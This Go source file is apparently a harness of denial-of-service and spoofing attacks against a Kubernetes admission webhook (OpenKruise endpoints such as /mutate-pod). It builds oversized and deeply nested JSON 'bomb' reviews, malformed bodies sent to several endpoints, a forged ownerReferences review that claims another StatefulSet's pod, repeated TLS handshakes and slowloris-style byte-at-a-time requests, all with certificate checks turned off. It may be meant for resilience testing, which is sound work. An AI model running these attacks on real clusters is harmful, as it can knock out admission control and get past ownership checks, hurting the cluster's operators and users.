// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"syscall"
	"time"
)

// patience is how long one attempt may take.
const patience = 10 * time.Second

// target is whom the attacks are for.
type target struct {
	address, namespace, owner string
}

// trustAnybody is how somebody connects who does not care whom to.
var trustAnybody = &tls.Config{InsecureSkipVerify: true}

// post sends a body over a connection of its own.
func (t *target) post(ctx context.Context, path string, body []byte) string {
	ctx, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	request, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+t.address+path, bytes.NewReader(body))
	if err != nil {
		return err.Error()
	}
	request.Header.Set("Content-Type", "application/json")
	transport := &http.Transport{TLSClientConfig: trustAnybody, DisableKeepAlives: true}
	response, err := transport.RoundTrip(request)
	if err != nil {
		return broken(err)
	}
	defer response.Body.Close()
	_, _ = io.Copy(io.Discard, response.Body)
	return fmt.Sprint("status ", response.StatusCode)
}

// broken says in a word how a connection ended.
func broken(err error) string {
	switch {
	case errors.Is(err, syscall.ECONNRESET), errors.Is(err, syscall.EPIPE), errors.Is(err, io.EOF), errors.Is(err, io.ErrUnexpectedEOF):
		return "closed"
	case errors.Is(err, syscall.ECONNREFUSED):
		return "refused"
	case errors.Is(err, context.DeadlineExceeded):
		return "no answer"
	}
	return "broken"
}

// review is an AdmissionReview of a Pod.
func review(namespace, metadata, spec string) []byte {
	return fmt.Appendf(nil, `{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"u",`+
		`"kind":{"group":"","version":"v1","kind":"Pod"},"resource":{"group":"","version":"v1","resource":"pods"},`+
		`"namespace":%q,"operation":"CREATE","object":{"apiVersion":"v1","kind":"Pod","metadata":{"name":"x"%s},"spec":{%s}}}}`,
		namespace, metadata, spec)
}

var (
	tooLarge = review("default", "", `"containers":[`+strings.Repeat(`{"name":"c","image":"i","env":[{"name":"a"},{"name":"b"}]},`, 110_000)+`{}]`)
	bombs    = [][]byte{
		review("default", "", `"containers":[`+strings.Repeat(`{},`, 1_000_000)+`{}]`),
		review("default", "", `"containers":[`+strings.Repeat(`{},`, 9_000)+`{}]`),
		review("default", `,"labels":{`+strings.Repeat(`"a":"",`, 400_000)+`"b":""}`, ""),
		review("default", "", `"containers":`+strings.Repeat("[", 1_000_000)),
	}
	largest = review("default", `,"annotations":{"a":"`+strings.Repeat("x", 3<<20-1000)+`"}`, `"containers":[{"name":"c","image":"i"}]`)
	nothing = [][]byte{
		nil, []byte("{"), []byte("null"), []byte("[]"), {0xff, 0xfe}, []byte(`{"request":null}`), []byte(`{"request":{}}`),
		[]byte(`{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"kind":{"kind":"Pod"},"operation":"CREATE","object":5}}`),
	}
	paths = []string{
		"/mutate-pod", "/mutate-pod-enforced", "/mutate-apps-kruise-io-sidecarset", "/validate-apps-kruise-io-sidecarset",
		"/validate-apps-kruise-io-statefulset", "/validate-apps-kruise-io-schedpatch", "/schedpatches/a/b", "/",
	}
)

func largeReview(ctx context.Context, t *target, _ int) string {
	return t.post(ctx, "/mutate-pod", tooLarge)
}

func manyObjects(ctx context.Context, t *target, turn int) string {
	return t.post(ctx, "/mutate-pod", bombs[turn%len(bombs)])
}

func fullReview(ctx context.Context, t *target, _ int) string {
	return t.post(ctx, "/mutate-pod", largest)
}

// forgedReview is of a Pod of a StatefulSet that somebody else has. Nobody knows its UID.
func forgedReview(ctx context.Context, t *target, _ int) string {
	owner := fmt.Sprintf(`,"ownerReferences":[{"apiVersion":"apps/v1","kind":"StatefulSet","name":%q,"uid":"x","controller":true}]`, t.owner)
	return t.post(ctx, "/mutate-pod", review(t.namespace, owner, `"containers":[{"name":"c","image":"i"}]`))
}

func malformed(ctx context.Context, t *target, turn int) string {
	return t.post(ctx, paths[turn/len(nothing)%len(paths)], nothing[turn%len(nothing)])
}

func handshake(ctx context.Context, t *target, _ int) string {
	c, err := t.connect(ctx)
	if err != nil {
		return broken(err)
	}
	_ = c.Close()
	return "shaken"
}

func (t *target) connect(ctx context.Context) (*tls.Conn, error) {
	dialer := &net.Dialer{Timeout: patience}
	c, err := dialer.DialContext(ctx, "tcp", t.address)
	if err != nil {
		return nil, err
	}
	_ = c.SetDeadline(time.Now().Add(time.Minute))
	encrypted := tls.Client(c, trustAnybody)
	if err := encrypted.HandshakeContext(ctx); err != nil {
		_ = c.Close()
		return nil, err
	}
	return encrypted, nil
}

// slowRequest sends a byte in a while: of the handshake, of the header or of the body.
func slowRequest(ctx context.Context, t *target, turn int) string {
	const head = "POST /mutate-pod HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n"
	var (
		c   net.Conn
		err error
	)
	if turn%3 == 0 {
		c, err = (&net.Dialer{Timeout: patience}).DialContext(ctx, "tcp", t.address)
	} else {
		c, err = t.connect(ctx)
	}
	if err != nil {
		time.Sleep(100 * time.Millisecond)
		return broken(err)
	}
	defer c.Close()
	switch turn % 3 {
	case 1:
		_, _ = io.WriteString(c, head)
	case 2:
		_, _ = io.WriteString(c, head+"\r\n{")
	}
	for ctx.Err() == nil {
		if _, err := io.WriteString(c, " "); err != nil {
			return broken(err)
		}
		select {
		case <-ctx.Done():
		case <-time.After(500 * time.Millisecond):
		}
	}
	return "kept"
}
